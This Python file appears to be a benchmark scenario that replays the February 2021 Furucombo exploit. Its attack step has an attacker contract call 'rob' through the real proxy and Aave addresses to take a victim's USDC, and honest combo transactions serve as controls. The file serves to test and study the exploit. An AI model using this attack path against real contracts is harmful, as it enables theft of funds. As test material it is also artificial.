"""Furucombo, February 2021: a registered handler delegated once more, to whatever its caller said."""

from benches.quality.plan import Incident, Plan, call, gains
from benches.quality.state import entry

PROXY = "0x17e8ca1b4798b97602895f63206afcd1fc90ca5f"
USDC = "0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48"
VICTIM = "0x13f6f084e5faded2276def5149e71811a7abeb69"
_REGISTRY = "0xd4258b13c9fadb7623ca4b15dda34b7b85b842c7"
_AAVE = "0x7d2768de32b0b80b7a3454c06bdac94a69ddc7a9"
_BATCH = "batchExec(address[],bytes32[],bytes[])"
_NO_CONFIG = bytes(32)


def build(plan: Plan) -> None:
    state = plan.state
    attacker = plan.actor("attacker")
    held = state.at(USDC, entry(VICTIM, 9))
    spender = plan.deploy(attacker, "ProxySpender")
    rob = call("rob(address,address,address,address,uint256)", PROXY, _AAVE, USDC, VICTIM, held)
    plan.attack(plan.transaction(attacker, spender, rob), changes=[gains(USDC, attacker, held)])

    handler = plan.install("FundsHandler")
    state.write(_REGISTRY, entry(handler, 1), state.at(_REGISTRY, entry(_AAVE, 1)))

    def holds(owner: str, amount: int) -> None:
        plan.give(USDC, owner, amount, slot=9)
        plan.allow(USDC, owner, PROXY, slot=10)

    def combo(amount: int, to: str) -> bytes:
        calls = [
            call("inject(address,uint256)", USDC, amount),
            call("send(address,uint256,address)", USDC, amount, to),
        ]
        return call(_BATCH, [handler] * 2, [_NO_CONFIG] * 2, calls)

    receiver = plan.actor("receiver")
    user = plan.actor("user")
    holds(user.address, 8_000 * 10**6)
    plan.honest(
        "a user's own 8,000 USDC go through a combo",
        plan.transaction(user, PROXY, combo(8_000 * 10**6, receiver.address)),
        changes=[gains(USDC, receiver, 8_000 * 10**6)],
    )
    wallet = plan.install("Wallet")
    plan.give(USDC, wallet, 60_000 * 10**6, slot=9)
    plan.honest(
        "a wallet allows the proxy what it then spends",
        plan.through(
            wallet,
            plan.actor("wallet's holder"),
            (USDC, 0, call("approve(address,uint256)", PROXY, 60_000 * 10**6)),
            (PROXY, 0, combo(60_000 * 10**6, receiver.address)),
        ),
        changes=[gains(USDC, receiver, 60_000 * 10**6)],
        by="contract",
    )


FURUCOMBO = Incident(
    "Furucombo",
    {"Proxy": PROXY},
    build,
    note="the handler of honest uses is the bench's own, registered as others are",
)
